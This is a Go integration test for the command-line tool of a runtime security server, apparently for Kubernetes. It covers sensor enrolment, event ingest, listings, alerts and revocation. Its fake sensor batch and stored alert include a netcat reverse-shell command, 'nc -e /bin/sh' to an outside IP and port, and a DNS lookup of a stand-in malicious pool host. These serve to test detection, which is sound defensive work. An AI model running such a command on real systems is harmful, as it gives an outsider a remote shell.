package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/bulwarkhq/bulwark/internal/sensor/wire"
	"github.com/bulwarkhq/bulwark/internal/store"
)

// post sends a JSON or encoded body to the server with a bearer token, as
// a sensor does, and returns the status and the answer.
func (s *serverRun) post(path, bearer string, body []byte, gzipped bool) (int, string) {
	s.t.Helper()
	req, err := http.NewRequest(http.MethodPost, s.env["BULWARK_SERVER"]+path, bytes.NewReader(body))
	if err != nil {
		s.t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+bearer)
	req.Header.Set("Content-Type", "application/json")
	if gzipped {
		req.Header.Set("Content-Encoding", "gzip")
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		s.t.Fatal(err)
	}
	defer resp.Body.Close()
	data, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(data)
}

// TestSensorsThroughServer is the server side of node sensors as an admin
// sees it: an enrolment token from `bulwark token create --role enroll`,
// a sensor enrolling and sending a batch (over the API, as the sensor
// does), the sensor in `bulwark sensors list`, its events in `bulwark
// sensor-events`, a runtime alert in `bulwark alerts --source sensor`,
// and `bulwark sensors revoke` shutting it out.
func TestSensorsThroughServer(t *testing.T) {
	dataDir := t.TempDir()
	srv := startServer(t, "http", "--data-dir", dataDir, "--retention-sensor-event-days", "3")
	srv.waitUntil("the server", time.Minute, func() (bool, string) { code, out := srv.cli("token", "list"); return code == ExitOK, out })
	code, out := srv.cli("token", "create", "prod-sensors", "--role", "enroll")
	if code != ExitOK {
		t.Fatalf("token create: %s", out)
	}
	enroll := strings.TrimSpace(out)

	code, out = srv.post("/api/v1/sensors/enroll", enroll, []byte(`{"node":"worker-1","cluster":"prod"}`), false)
	if code != 200 {
		t.Fatalf("enrol = %d %s", code, out)
	}
	var enrolled struct {
		ID         int64  `json:"id"`
		Credential string `json:"credential"`
	}
	if err := json.Unmarshal([]byte(out), &enrolled); err != nil {
		t.Fatal(err)
	}
	at := time.Now().Add(-time.Minute).UTC()
	b := &wire.Batch{ID: strings.Repeat("ab", 16), Node: "worker-1", Sensor: "v1.0.0", SentAt: at, Dropped: 4, Events: []wire.Event{
		{Kind: wire.KindExec, Time: at, Process: wire.Process{PID: 321, Exe: "/usr/bin/nc", Args: []string{"nc", "-e", "/bin/sh", "10.9.9.9", "4444"}, Drift: true},
			Container: &wire.Container{ID: strings.Repeat("c", 64), Name: "web", Pod: "web-1", Namespace: "shop", Image: "nginx:1.27"}},
		{Kind: wire.KindDNS, Time: at.Add(time.Second), Process: wire.Process{PID: 322, Exe: "/usr/bin/curl"},
			DNS: &wire.DNSQuery{Name: "pool.evil.example", Type: "A"}},
	}}
	var body bytes.Buffer
	if err := wire.Encode(&body, b); err != nil {
		t.Fatal(err)
	}
	if code, out := srv.post("/api/v1/ingest/sensor", enrolled.Credential, body.Bytes(), true); code != 200 || !strings.Contains(out, `"accepted":2`) {
		t.Fatalf("ingest = %d %s", code, out)
	}

	code, out = srv.cli("sensors", "list")
	if code != ExitOK || !strings.Contains(out, "worker-1") || !strings.Contains(out, "v1.0.0") || !strings.Contains(out, "EVENTS") {
		t.Errorf("sensors list: %d %s", code, out)
	}
	code, out = srv.cli("sensors", "list", "--cluster", "prod", "-f", "json")
	var sensors []struct {
		ID                        int64
		Node                      string
		Events, Dropped, Rejected int64
	}
	if code != ExitOK || json.Unmarshal([]byte(out), &sensors) != nil || len(sensors) != 1 || sensors[0].Events != 2 || sensors[0].Dropped != 4 {
		t.Errorf("sensors list -f json: %d %s", code, out)
	}

	code, out = srv.cli("sensor-events", "--kind", "exec", "--namespace", "shop")
	if code != ExitOK || !strings.Contains(out, "/usr/bin/nc -e /bin/sh 10.9.9.9 4444") || !strings.Contains(out, "drift") ||
		!strings.Contains(out, "shop/web-1") || strings.Contains(out, "pool.evil.example") {
		t.Errorf("sensor-events --kind exec: %d %s", code, out)
	}
	code, out = srv.cli("sensor-events", "--dns", "pool.evil.example", "-f", "json")
	var events []struct{ Evidence, Kind string }
	if code != ExitOK || json.Unmarshal([]byte(out), &events) != nil || len(events) != 1 || events[0].Evidence != b.ID+"/1" {
		t.Errorf("sensor-events --dns: %d %s", code, out)
	}
	if code, out := srv.cli("sensor-events", "--kind", "open"); code == ExitOK || !strings.Contains(out, "kind must be") {
		t.Errorf("sensor-events --kind open: %d %s", code, out)
	}

	// A runtime alert, as the detector saves it (internal/nodeingest's
	// tests raise them from events), stored beside the running server.
	db, err := store.OpenSQLite(context.Background(), filepath.Join(dataDir, store.SQLiteFile), nil)
	if err != nil {
		t.Fatal(err)
	}
	_, err = db.SaveAlerts(context.Background(), []store.Alert{{Source: store.SourceSensor, Cluster: "prod", Node: "worker-1",
		RuleID: "reverse-shell", Title: "Reverse shell", Severity: "critical", TechniqueID: "T1059", Resource: "pods", Namespace: "shop",
		Name: "web-1", ContainerName: "web", Process: "/usr/bin/nc -e /bin/sh 10.9.9.9 4444", Events: []string{b.ID + "/0"}, Count: 1,
		GroupKey: "k", FirstAt: at, LastAt: at}}, nil)
	db.Close()
	if err != nil {
		t.Fatal(err)
	}
	code, out = srv.cli("alerts", "--source", "sensor", "--node", "worker-1")
	if code != ExitOK || !strings.Contains(out, "reverse-shell") || !strings.Contains(out, "pod shop/web-1 container web") {
		t.Errorf("alerts --source sensor: %d %s", code, out)
	}
	if code, out := srv.cli("alerts", "--source", "audit"); code != ExitOK || strings.Contains(out, "reverse-shell") {
		t.Errorf("alerts --source audit: %d %s", code, out)
	}

	if code, out := srv.cli("sensors", "revoke", "abc"); code != ExitUsage {
		t.Errorf("sensors revoke abc: %d %s", code, out)
	}
	if code, out := srv.cli("sensors", "revoke", fmt.Sprint(enrolled.ID)); code != ExitOK || !strings.Contains(out, "revoked sensor") {
		t.Fatalf("sensors revoke: %d %s", code, out)
	}
	if code, out := srv.cli("sensors", "revoke", fmt.Sprint(enrolled.ID)); code == ExitOK {
		t.Errorf("revoking twice succeeded: %s", out)
	}
	b.ID = strings.Repeat("cd", 16)
	body.Reset()
	wire.Encode(&body, b)
	if code, out := srv.post("/api/v1/ingest/sensor", enrolled.Credential, body.Bytes(), true); code != 401 {
		t.Errorf("ingest after revocation = %d %s", code, out)
	}
}
